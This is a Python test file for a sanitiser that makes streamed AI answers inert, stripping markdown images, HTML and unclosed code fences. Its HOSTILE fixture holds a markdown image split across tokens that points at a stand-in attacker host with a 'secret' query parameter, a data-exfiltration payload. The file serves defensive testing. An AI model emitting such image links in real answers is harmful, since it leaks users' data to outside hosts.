"""The partial-answer rule: an answer cut short ends with all its text made inert, a finished one likewise."""

from __future__ import annotations

from askvault.safety.answer import neutralise_answer
from askvault.safety.partial import AnswerSoFar

HOSTILE = ["Port 5433 [1]. ![map](https://evil", ".example/p.png?q=secret) and <b>", "more"]


def _so_far(tokens: list[str]) -> AnswerSoFar:
    so_far = AnswerSoFar()
    for token in tokens:
        so_far.add(token)
    return so_far


def test_nothing_arrived_is_an_empty_partial() -> None:
    assert AnswerSoFar().partial() == ""
    assert AnswerSoFar().chars == 0


def test_the_partial_is_the_whole_text_so_far_made_inert() -> None:
    so_far = _so_far(HOSTILE)
    # Judged as one answer: the image split over two tokens is still found and removed.
    assert so_far.partial() == neutralise_answer("".join(HOSTILE)).text
    assert "https://" not in so_far.partial()
    assert "<b>" not in so_far.partial()
    assert so_far.chars == len("".join(HOSTILE))


def test_the_raw_text_is_kept_for_checks_and_the_final_answer_made_inert() -> None:
    so_far = _so_far(HOSTILE)
    assert so_far.raw == "".join(HOSTILE)
    final = so_far.final()
    assert final.text == so_far.partial()
    assert [n.kind for n in final.neutralised] == ["image", "html"]


def test_an_unclosed_fence_is_kept_as_code_not_held_back() -> None:
    so_far = _so_far(["Run:\n```dataviewjs\n", "dv.paragraph(1)"])
    assert so_far.partial() == "Run:\n```text\ndv.paragraph(1)"
